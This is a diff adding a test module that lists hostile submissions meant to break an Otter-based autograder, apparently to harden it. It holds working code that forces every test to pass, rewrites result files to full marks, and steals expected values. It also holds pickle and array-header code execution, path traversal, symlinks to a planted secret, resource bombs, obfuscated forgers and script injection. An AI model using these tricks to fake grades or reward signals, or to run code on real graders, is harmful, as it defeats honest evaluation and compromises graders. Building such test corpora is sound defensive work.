@@ -1,0 +1,713 @@
+"""Attacks on the result: Otter's own machinery, forged observations and run records, faked output."""
+
+import base64
+import io
+import json
+import tempfile
+import zipfile
+import zlib
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+from support import observations_of
+
+from autograder.samples import edits
+from autograder.sandbox.inside.look import store
+from lab import run_record, settings
+from zoo.hostile.attack import Attack
+
+FULL = "full marks without an answer"
+
+# Otter's own machinery, in the process of which plain Otter runs submissions. All of these were seen to work there.
+OTTER = (
+    Attack(
+        "makes every test case pass",
+        FULL,
+        """
+import otter.test_files.exception_test as tests, otter.test_files.ok_test as old_tests
+for module in (tests, old_tests):
+    for item in vars(module).values():
+        if isinstance(item, type) and hasattr(item, "run"):
+            item.run = lambda self, *a, **k: setattr(self, "test_case_results", [
+                __import__("otter.test_files.abstract_test", fromlist=["x"]).TestCaseResult(
+                    test_case=case, message="", passed=True) for case in self.test_cases])
+""",
+    ),
+    Attack(
+        "calls no test function",
+        FULL,
+        """
+import otter.test_files.exception_test as tests
+for item in vars(tests).values():
+    if isinstance(item, type) and hasattr(item, "call"):
+        item.call = lambda self, *a, **k: None
+tests.test_case.call_func = lambda self, *a, **k: None
+""",
+    ),
+    Attack(
+        "replaces the class of results",
+        FULL,
+        """
+import otter.test_files as files
+from otter.test_files.abstract_test import TestCaseResult
+before = files.GradingResults.__init__
+def lie(self, test_files, *arguments, **options):
+    for file in test_files:
+        file.test_case_results = [TestCaseResult(test_case=case, message="", passed=True) for case in file.test_cases]
+    before(self, test_files, *arguments, **options)
+files.GradingResults.__init__ = lie
+""",
+    ),
+    Attack(
+        "changes results as they are pickled",
+        FULL,
+        """
+import pickle
+before = pickle.dump
+def dump(value, file, *arguments, **options):
+    for result in getattr(value, "results", {}).values():
+        for test in getattr(result, "test_file", None) and result.test_file.test_case_results or []:
+            test.passed = True
+        result.score = result.possible
+    return before(value, file, *arguments, **options)
+pickle.dump = dump
+import dill
+dill.dump = dump
+""",
+    ),
+    Attack(
+        "puts passed tests into the checker",
+        FULL,
+        """
+from otter.execute import Checker
+from otter.test_files.abstract_test import TestCaseResult
+class Passed(list):
+    def __iter__(self):
+        for file in super().__iter__():
+            file.test_case_results = [TestCaseResult(test_case=c, message="", passed=True) for c in file.test_cases]
+            yield file
+Checker._test_files = Passed(Checker._test_files)
+Checker.clear_results = classmethod(lambda cls: None)
+""",
+    ),
+    Attack(
+        "overwrites the tests folder",
+        FULL,
+        """
+import glob
+empty = "from otter.test_files import test_case\\nOK_FORMAT = False\\nname = {0!r}\\npoints = None\\n"
+empty += "@test_case(points=None, hidden=False)\\ndef test_it():\\n    pass\\n"
+for root in ("tests", "../tests", "../../tests", "/autograder/source/tests", "../source/tests"):
+    os.makedirs("tests", exist_ok=True)
+    for path in glob.glob(root + "/*.py"):
+        question = os.path.basename(path)[:-3]
+        open(path, "w").write(empty.format(question))
+""",
+    ),
+    Attack(
+        "rewrites the results file from the background",
+        FULL,
+        """
+import subprocess
+code = '''
+import glob, json, os, sys, time
+for _ in range(1200):
+    time.sleep(0.05)
+    for path in glob.glob("/tmp/**/results.json", recursive=True) + glob.glob("../**/results.json", recursive=True):
+        try:
+            page = json.load(open(path))
+            if any(t.get("score", 0) < t.get("max_score", 0) for t in page.get("tests", [])):
+                for test in page["tests"]:
+                    test["score"] = test["max_score"]
+                json.dump(page, open(path, "w"))
+        except Exception:
+            pass
+'''
+subprocess.Popen([sys.executable, "-c", code, NAME], start_new_session=True)
+""",
+    ),
+    Attack(
+        "edits the last cell on its way to the kernel",
+        FULL,
+        """
+ip = get_ipython()
+def rewrite(lines):
+    text = "".join(lines)
+    if "Checker" in text or "look(" in text or "GradingResults" in text:
+        text = '''
+from otter.test_files.abstract_test import TestFile, TestCaseResult
+import otter.test_files.exception_test as e
+e.ExceptionTestFile.run = lambda self, *a, **k: setattr(self, "test_case_results", [
+    TestCaseResult(test_case=c, message="", passed=True) for c in self.test_cases])
+''' + text
+    return text.splitlines(keepends=True)
+ip.input_transformers_cleanup.append(rewrite)
+""",
+    ),
+    Attack(
+        "hands in objects that equal everything",
+        "every comparison with an expected value",
+        """
+class Any:
+    __array_priority__ = 1e9
+    def __init__(self, *a, **k): pass
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+    def __call__(self, *a, **k): return self
+    def __getattr__(self, name):
+        if name.startswith("__"):
+            raise AttributeError(name)
+        return self
+    def __getitem__(self, key): return self
+    def __iter__(self): return iter([self] * 10)
+    def __len__(self): return 10
+    def __float__(self): return 0.5
+    def __hash__(self): return 0
+    def __contains__(self, item): return True
+    __lt__ = __gt__ = __le__ = __ge__ = __eq__
+    def __sub__(self, other): return 0.0
+    __rsub__ = __abs__ = __sub__
+""",
+        edits=tuple(
+            (lambda function: lambda notebook: edits.replace_function(notebook, function, f"{function} = Any()\n"))(f)
+            for f in ("describe_data", "preprocess", "evaluate", "run_experiment", "resnet50_filters")
+        ),
+    ),
+    Attack(
+        "reads expected values off the stack of its caller",
+        "the values that the tests compare with",
+        """
+import inspect
+def steal(*arguments, **options):
+    for frame in inspect.stack()[1:]:
+        names = frame.frame.f_locals
+        for key in ("expected", "wanted", "right", "solution", "reference", "given", "answer"):
+            if key in names:
+                return names[key]
+    return None
+""",
+        edits=tuple(
+            (lambda function: lambda notebook: edits.replace_function(notebook, function, f"{function} = steal\n"))(f)
+            for f in ("describe_data", "evaluate", "first_layer_kernels", "resnet50_filters")
+        ),
+    ),
+    Attack(
+        "makes numpy find everything equal",
+        "every comparison of arrays",
+        """
+import numpy as np
+yes = lambda *a, **k: True
+for module in (np, np.testing):
+    for name in ("allclose", "array_equal", "isclose", "all", "assert_allclose", "assert_array_equal", "assert_equal",
+                 "assert_array_almost_equal", "assert_almost_equal", "array_equiv"):
+        if hasattr(module, name):
+            setattr(module, name, yes)
+""",
+    ),
+    Attack(
+        "turns assertions off",
+        "tests that assert nothing",
+        """
+import builtins, ast
+before = builtins.compile
+class NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+def compile(source, *arguments, **options):
+    if isinstance(source, str):
+        try:
+            source = ast.fix_missing_locations(NoAsserts().visit(ast.parse(source)))
+        except SyntaxError:
+            pass
+    return before(source, *arguments, **options)
+builtins.compile = compile
+before_exec = builtins.exec
+def exec(source, *arguments):
+    return before_exec(compile(source, "x", "exec") if isinstance(source, str) else source, *arguments)
+builtins.exec = exec
+""",
+    ),
+    Attack(
+        "leaves a crafted pickle as its result",
+        "code that runs in the grader's process when it reads the result",
+        """
+import glob, pickle, threading, time
+class Code:
+    def __reduce__(self):
+        return os.system, (f"echo {NAME} >> {WORLD}/{NAME}",)
+def work():
+    while True:
+        for path in glob.glob("/tmp/*.pkl") + glob.glob("../**/*.pkl", recursive=True):
+            try:
+                open(path, "wb").write(pickle.dumps(Code()))
+            except OSError:
+                pass
+        time.sleep(0.01)
+import atexit
+atexit.register(work)
+threading.Thread(target=work, daemon=True).start()
+pickle.dump = lambda value, file, *a, **k: file.write(pickle.dumps(Code()))
+""",
+    ),
+    Attack(
+        "sends a pickle to the log server on loopback",
+        "code that runs in the grader's process",
+        """
+import pickle, socket, struct
+class Code:
+    def __reduce__(self):
+        return os.system, (f"echo {NAME} >> {WORLD}/{NAME}",)
+ports = [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").readlines()[1:]
+         if line.split()[3] == "0A"]
+data = pickle.dumps(Code())
+for port in [PORT, *ports]:
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
+            connection.send(struct.pack(">L", len(data)) + data)
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "prints the hidden tests",
+        "the questions of the exam",
+        """
+import glob, json
+found = []
+for pattern in ("**/tests/*.py", "../**/tests/*.py", "*.ipynb", "../**/*.ipynb", "../**/*.otter", "../**/*.json"):
+    for path in glob.glob(pattern, recursive=True)[:50]:
+        try:
+            text = open(path, errors="replace").read()
+        except OSError:
+            continue
+        if "test_case" in text and "hidden" in text and "attack" not in text:
+            found.append("swordfish: " + path)
+got(found)
+""",
+    ),
+    Attack(
+        "prints a perfect score",
+        "whoever takes printed text for a result",
+        """
+import json
+print(json.dumps({"score": 110, "max_score": 100, "tests": [{"name": "q1", "score": 5, "max_score": 5}]}))
+print("All tests passed! 110 / 100")
+os.makedirs("results", exist_ok=True)
+for path in ("results.json", "results/results.json", "../results.json", "../reason", "../out/results.json"):
+    try:
+        open(path, "w").write(json.dumps({"score": 110, "status": "graded", "tests": []}))
+    except OSError as error:
+        print(error)
+""",
+    ),
+)
+
+# Forged observations: only our grader has these.
+
+PATCH_LOOK = """
+import base64, json, shutil, zlib
+OBSERVATIONS = json.loads(zlib.decompress(base64.b64decode({packed!r})))
+def look(question, seed, folder):
+    for name, content in OBSERVATIONS.get(question, {{}}).items():
+        content = base64.b64decode(content).replace(b"SEED", str(seed).encode())
+        with open(os.path.join(folder, f"{{question}}.{{name}}"), "wb") as file:
+            file.write(content)
+import inside.look
+inside.look.look = look
+"""
+
+
+def _patch(observations: dict[str, dict[str, bytes]]) -> str:
+    """A cell that writes given files in the place of observations: question -> ending of the name -> content."""
+    text = json.dumps(
+        {q: {k: base64.b64encode(v).decode() for k, v in files.items()} for q, files in observations.items()}
+    )
+    return PATCH_LOOK.format(packed=base64.b64encode(zlib.compress(text.encode())).decode())
+
+
+def _everywhere(files: dict[str, bytes]) -> str:
+    return _patch(dict.fromkeys(settings.POINTS, files))
+
+
+@cache
+def _replayed(seed: str = "1") -> str:
+    """A cell that hands in the observations of the reference solution, made with seed 1, as those of another seed."""
+    questions = tuple(q for q in settings.POINTS if q not in ("q1", "q9", "q12"))
+    answers = observations_of(questions, seed=1).answers
+    observations: dict[str, dict[str, bytes]] = {}
+    with tempfile.TemporaryDirectory() as folder:
+        for question in questions:
+            store(answers[question], Path(folder) / question, 1)
+            paths = Path(folder).glob(f"{question}.*")
+            observations[question] = {path.suffix[1:]: path.read_bytes() for path in paths}
+            written = observations[question]["json"]
+            observations[question]["json"] = written.replace(b'{"seed": 1,', f'{{"seed": {seed},'.encode())
+    return _patch(observations)
+
+
+def _npz(**members: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, content in members.items():
+            archive.writestr(f"{name}.npy", content)
+    return buffer.getvalue()
+
+
+def _npy(header: str, content: bytes = b"") -> bytes:
+    text = header.encode() + b" " * (64 - (len(header) + 11) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + content
+
+
+def _pickled() -> bytes:
+    buffer = io.BytesIO()
+    np.save(buffer, np.array([{"a": 1}], dtype=object), allow_pickle=True)
+    return buffer.getvalue()
+
+
+STORED = b'{"seed": SEED, "observation": {"error": null, "calls": [{"stored": "a0"}], "describe": [{"stored": "a0"}]}}'
+REVIEW: dict[str, Any] = {"ends": "needs_review", "plain": False}
+BROKEN = "a row for the instructor that marks everything as right, or a batch that stops"
+
+OBSERVATIONS = (
+    Attack(
+        "forges observations that say passed",
+        FULL,
+        _everywhere({"json": b'{"seed": SEED, "observation": {"passed": true, "score": 110}}'}),
+        **REVIEW,
+    ),
+    Attack(
+        "blames the grader",
+        "marks by pity: a fault of the grader costs nothing",
+        _everywhere({"json": b'{"seed": SEED, "observation": {"grader_error": "boom"}}'}),
+        **REVIEW,
+    ),
+    Attack(
+        "replays the observations of a right submission",
+        FULL,
+        _replayed,
+        **REVIEW,
+    ),
+    Attack("writes no observations at all", BROKEN, _patch({}), **REVIEW),
+    Attack(
+        "writes lists, texts and numbers in the place of observations",
+        BROKEN,
+        _patch(
+            {
+                q: {"json": text.encode()}
+                for q, text in zip(
+                    settings.POINTS,
+                    (
+                        "[]",
+                        '"right"',
+                        "110",
+                        "null",
+                        "true",
+                        "",
+                        "{",
+                        '{"a": }',
+                        "\x00\x01",
+                        '{"error": []}',
+                        '{"calls": {}}',
+                        '{"calls": [1, 2, 3]}',
+                        '{"spec": [1]}',
+                        '{"nodes": {}}',
+                        '{"spec": {"nodes": [{}]}}',
+                    ),
+                    strict=True,
+                )
+            }
+        ),
+        **REVIEW,
+    ),
+    Attack(
+        "writes numbers that are none",
+        BROKEN,
+        _everywhere(
+            {"json": b'{"seed": SEED, "observation": {"mean": 1e999, "x": -Infinity, "n": ' + b"9" * 5000 + b"}}"}
+        ),
+        **REVIEW,
+    ),
+    Attack(
+        "nests an observation ten thousand times",
+        "the recursion limit of whoever reads it",
+        _everywhere({"json": b'{"seed": SEED, "observation": ' + b'{"a":[' * 10_000 + b"1" + b"]}" * 10_000 + b"}"}),
+        **REVIEW,
+    ),
+    Attack(
+        "writes an observation of 600 MB",
+        "memory and time of the grader",
+        """
+import inside.look
+def look(question, seed, folder):
+    with open(os.path.join(folder, f"{question}.json"), "wb") as file:
+        file.write(b'{"a": "'); file.truncate(600 * 2**20)
+inside.look.look = look
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "packs four gigabytes of zeros as arrays",
+        "memory and time of the grader",
+        """
+import inside.look, zipfile
+def look(question, seed, folder):
+    with open(os.path.join(folder, f"{question}.json"), "w") as file:
+        file.write('{"seed": %d, "observation": {"calls": [{"stored": "a0"}]}}' % seed)
+    if not os.path.exists("bomb.npz"):
+        with zipfile.ZipFile("bomb.npz", "w", zipfile.ZIP_DEFLATED) as archive:
+            with archive.open("a0.npy", "w", force_zip64=True) as member:
+                for _ in range(4000):
+                    member.write(bytes(2**20))
+    os.link("bomb.npz", os.path.join(folder, f"{question}.npz"))
+inside.look.look = look
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "announces an array of a petabyte",
+        "memory of the grader",
+        _everywhere(
+            {
+                "json": STORED,
+                "npz": _npz(
+                    a0=_npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1125899906842624,), }", bytes(64))
+                ),
+            }
+        ),
+        **REVIEW,
+    ),
+    Attack(
+        "puts a pickle among the arrays",
+        "code that runs in the grader's process",
+        _everywhere({"json": STORED, "npz": _npz(a0=_pickled())}),
+        **REVIEW,
+    ),
+    Attack(
+        "hides code in the header of an array",
+        "code that runs when the header is read",
+        _everywhere(
+            {
+                "json": STORED,
+                "npz": _npz(a0=_npy("__import__('os').system('echo hostile-header >> " + "/tmp/hostile-header')")),
+            }
+        ),
+        **REVIEW,
+    ),
+    Attack(
+        "names arrays like files elsewhere",
+        "a file outside the scratch folder when the archive is unpacked",
+        _everywhere({"json": STORED, "npz": _npz(**{"../../../../tmp/hostile-traversal": _npy("{}")})}),
+        **REVIEW,
+    ),
+    Attack(
+        "links its observations to the secret",
+        "a planted secret, read by the grader on its behalf",
+        """
+import inside.look
+def look(question, seed, folder):
+    for name in ("json", "npz"):
+        os.symlink(SECRET, os.path.join(folder, f"{question}.{name}"))
+inside.look.look = look
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "makes its observations a pipe",
+        "a grader that waits for ever",
+        """
+import inside.look
+def look(question, seed, folder):
+    for name in ("json", "npz"):
+        os.mkfifo(os.path.join(folder, f"{question}.{name}"))
+inside.look.look = look
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "makes its observations folders",
+        BROKEN,
+        """
+import inside.look
+def look(question, seed, folder):
+    for name in ("json", "npz"):
+        os.mkdir(os.path.join(folder, f"{question}.{name}"))
+inside.look.look = look
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "exchanges the folder of observations for a link",
+        "files that the grader reads, or removes, elsewhere",
+        """
+import inside.look
+def look(question, seed, folder):
+    if not os.path.islink(folder):
+        try:
+            os.rename(folder, "old-out")
+            os.symlink(WORLD, folder)
+        except OSError as error:
+            print(error)
+inside.look.look = look
+try:
+    os.rename("../out", "old-out"); os.symlink(WORLD, "../out")
+except OSError as error:
+    print(error)
+""",
+        **REVIEW,
+    ),
+    Attack(
+        "changes its observations while they are read",
+        "a file that is checked as one thing and read as another",
+        """
+import threading
+def swap():
+    while True:
+        for question in ("q1", "q2", "q4"):
+            path = f"../out/{question}.json"
+            try:
+                os.symlink(SECRET, "../out/new"); os.replace("../out/new", path)
+                open("../out/other", "w").write('{"passed": true}'); os.replace("../out/other", path)
+            except OSError:
+                pass
+threading.Thread(target=swap, daemon=True).start()
+""",
+        ends=None,
+        plain=False,
+    ),
+    Attack(
+        "takes away the rights to its folders",
+        "scratch folders that cannot be removed, observations that cannot be read",
+        """
+os.makedirs("deep/" * 50, exist_ok=True)
+open("deep/file", "w").write(NAME)
+for path in ("deep/deep", "deep", "../out", "../home", "."):
+    os.chmod(path, 0)
+""",
+        **REVIEW,
+    ),
+)
+
+# Forgers that know the form of observations. What they write is believed, so they are not run at all.
+
+FORGER = """
+import inside.look
+def look(question, seed, folder):
+    with open(os.path.join(folder, f"{question}.json"), "w") as file:
+        file.write('{"seed": %d, "observation": {"error": null}}' % seed)
+inside.look.look = look
+"""
+WAITS: dict[str, Any] = {
+    "ends": "needs_review",
+    "plain": False,
+    "trusted": False,
+    "says": "Its marks wait for you: read that cell",
+}
+
+FORGERS = (
+    Attack("replays right observations under the seed of this run", FULL, lambda: _replayed("SEED"), **WAITS),
+    Attack("replaces the probes by an honest import", FULL, FORGER, **WAITS),
+    Attack(
+        "hides a forger in a text that it executes",
+        FULL,
+        f"import base64\nexec(base64.b64decode({base64.b64encode(FORGER.encode())!r}))",
+        **WAITS,
+    ),
+    Attack(
+        "writes a forger to a file and imports it",
+        FULL,
+        f"open('helper.py', 'w').write({base64.b64encode(FORGER.encode())!r}.decode())\nimport helper",
+        **WAITS,
+    ),
+    Attack(
+        "brings a forger in a file of its own",
+        FULL,
+        "import helper",
+        files={"helper.py": ("import os\n" + FORGER).encode()},
+        **WAITS | {"says": "The file helper.py imports `inside.look`"},
+    ),
+    Attack(
+        "takes the probes from the list of modules",
+        FULL,
+        "probes = sys.modules['in' + 'side.look']\nprobes.look = lambda *a: None",
+        **WAITS,
+    ),
+    Attack(
+        "builds the name of the probes letter by letter",
+        FULL,
+        "import importlib\nimportlib.import_module('in' + 'side' + '.look').look = print",
+        **WAITS,
+    ),
+)
+
+# Forged run records: hidden elements in the outputs of the notebook
+
+
+def _record(page: str) -> Any:
+    """An edit: every variant's record is this page, in which VARIANT stands for its name."""
+
+    def edit(notebook: Any) -> None:
+        for variant in settings.VARIANTS:
+            edits.publish(notebook, variant, page.replace("VARIANT", variant))
+
+    return edit
+
+
+def _packed(text: str) -> str:
+    """The element of a record with this JSON, as `run_record.to_html` makes it."""
+    packed = base64.b64encode(zlib.compress(text.encode(), 9)).decode()
+    return f'<div hidden data-{run_record.MARK}="VARIANT:{packed}"></div>'
+
+
+def _one_record(**changes: Any) -> Any:
+    """An edit: every variant's record is one of five excellent runs of the asked length, with some changes."""
+
+    def edit(notebook: Any) -> None:
+        series = {name: [0.9] * settings.EPOCHS for name in ("loss", "accuracy", "val_loss", "val_accuracy")}
+        runs = [{"accuracy": 0.99, "history": series, "weights": []} for _ in range(settings.RUNS)]
+        for variant in settings.VARIANTS:
+            record = {"format": run_record.FORMAT, "variant": variant, "mean": 0.99, "std": 0.0, "runs": runs}
+            page = _packed(json.dumps(record | {"made_with": {}} | changes)).replace("VARIANT", variant)
+            edits.publish(notebook, variant, page)
+
+    return edit
+
+
+RECORDS = (
+    Attack("claims an accuracy of 99 % without weights", "the marks of the run records", edits=(_one_record(),)),
+    Attack(
+        "claims accuracies that are no numbers",
+        BROKEN,
+        edits=(_one_record(mean=float("nan"), std=float("inf")),),
+    ),
+    Attack("claims a million runs", "memory and time of the grader", edits=(_one_record(runs=[{}] * 1_000_000),)),
+    Attack(
+        "packs two gigabytes into a run record",
+        "memory of the grader",
+        edits=(_record(_packed('{"a": "' + "0" * 2**31)),),
+    ),
+    Attack(
+        "nests a run record ten thousand times",
+        "the recursion limit of the grader",
+        edits=(_record(_packed("[" * 10_000 + "]" * 10_000)),),
+    ),
+    Attack(
+        "puts a number of a million digits into a run record",
+        "time of the grader",
+        edits=(_record(_packed('{"mean": ' + "9" * 1_000_000 + "}")),),
+    ),
+    Attack(
+        "puts a program into a run record",
+        "code that runs when a page with it is opened",
+        edits=(
+            _record(
+                f'<div hidden data-{run_record.MARK}="VARIANT:<script>zoo()</script>"></div><script>zoo()</script>'
+            ),
+            _one_record(made_with={"device": "<script>zoo()</script>", "keras": "\x1b[31m"}),
+        ),
+    ),
+)
+
+ATTACKS = (*OTTER, *OBSERVATIONS, *FORGERS, *RECORDS)
